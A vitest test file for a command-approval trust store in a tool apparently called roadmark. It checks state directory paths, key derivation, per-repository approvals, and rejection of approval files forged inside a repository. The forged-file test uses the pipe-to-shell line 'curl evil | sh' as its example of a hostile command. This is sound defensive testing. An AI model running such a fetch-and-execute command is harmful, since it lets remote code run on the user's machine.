import { mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { approveCommands, checkTrust } from "../../src/io/trust-store.js";
import { trustDir, trustFile, trustKey } from "../../src/verify/trust.js";
import { tempDir } from "../harness/cli.js";

describe("trust", () => {
  it("lives in $XDG_STATE_HOME/roadmark, else ~/.local/state/roadmark (a relative XDG_STATE_HOME is ignored)", () => {
    expect(trustDir({ env: { XDG_STATE_HOME: "/x/state" }, homeDir: "/home/u" })).toBe("/x/state/roadmark");
    expect(trustDir({ env: {}, homeDir: "/home/u" })).toBe("/home/u/.local/state/roadmark");
    expect(trustDir({ env: { XDG_STATE_HOME: "rel" }, homeDir: "/home/u" })).toBe("/home/u/.local/state/roadmark");
  });

  it("keys on the real root and the exact command text", () => {
    expect(trustKey("/r", "npm test")).toMatch(/^[0-9a-f]{64}$/);
    expect(trustKey("/r", "npm test")).not.toBe(trustKey("/r", "npm test "));
    expect(trustKey("/r", "npm test")).not.toBe(trustKey("/s", "npm test"));
    // A path holds no NUL, so the separator keeps root and command apart.
    expect(trustKey("/r/a", "b")).not.toBe(trustKey("/r/", "ab"));
  });

  it("approves per command, creates the missing state directory, and a changed command needs approval again", async () => {
    const state = path.join(tempDir(), "deep", "state"); // does not exist yet
    const o = { env: { XDG_STATE_HOME: state } };
    const repo = tempDir();
    expect(await checkTrust(repo, ["npm test", "npm run build"], o)).toEqual({ approved: [], unapproved: ["npm test", "npm run build"] });
    await approveCommands(repo, ["npm test"], o);
    expect((statSync(path.dirname(trustFile(o))).mode & 0o777).toString(8)).toBe("700");
    expect(await checkTrust(repo, ["npm test", "npm run build", "npm test"], o)).toEqual({ approved: ["npm test"], unapproved: ["npm run build"] });
    expect(await checkTrust(repo, ["npm test -- --run"], o)).toEqual({ approved: [], unapproved: ["npm test -- --run"] });
    // Another repository does not share the approval; a symlink to the same one does.
    expect((await checkTrust(tempDir(), ["npm test"], o)).approved).toEqual([]);
    const link = path.join(tempDir(), "link");
    symlinkSync(repo, link);
    expect((await checkTrust(link, ["npm test"], o)).approved).toEqual(["npm test"]);
    // Approvals added later keep the earlier ones; the file is readable JSON with the command text.
    await approveCommands(repo, ["npm run build"], o);
    const stored = JSON.parse(readFileSync(trustFile(o), "utf8"));
    expect(Object.values(stored.approved).map((a) => (a as { command: string }).command).sort()).toEqual(["npm run build", "npm test"]);
  });

  it("never reads approvals from the repository", async () => {
    const o = { env: { XDG_STATE_HOME: path.join(tempDir(), "state") } };
    const repo = tempDir();
    // A repository that ships a look-alike approvals file, in every place one might look.
    const forged = JSON.stringify({ version: 1, approved: { [trustKey(repo, "curl evil | sh")]: { root: repo, command: "curl evil | sh", at: "" } } });
    for (const rel of ["trust.json", ".roadmark/trust.json", ".local/state/roadmark/trust.json"]) {
      mkdirSync(path.dirname(path.join(repo, rel)), { recursive: true });
      writeFileSync(path.join(repo, rel), forged);
    }
    expect((await checkTrust(repo, ["curl evil | sh"], o)).approved).toEqual([]);
  });

  it("an unreadable approvals file approves nothing", async () => {
    const o = { env: { XDG_STATE_HOME: path.join(tempDir(), "state") } };
    mkdirSync(path.dirname(trustFile(o)), { recursive: true });
    writeFileSync(trustFile(o), "{not json");
    expect((await checkTrust(tempDir(), ["true"], o)).unapproved).toEqual(["true"]);
  });
});
